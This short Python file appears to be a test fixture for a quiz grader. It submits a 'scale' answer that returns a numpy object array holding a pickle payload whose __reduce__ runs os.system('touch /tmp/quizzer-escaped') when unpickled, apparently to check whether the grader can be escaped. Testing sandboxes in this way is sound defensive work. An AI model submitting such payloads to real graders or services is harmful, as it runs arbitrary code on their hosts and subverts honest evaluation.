"""Answers with objects that would run a program when they are unpickled."""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/quizzer-escaped",)


def scale(x, factor):
    return np.array([Payload()], dtype=object)
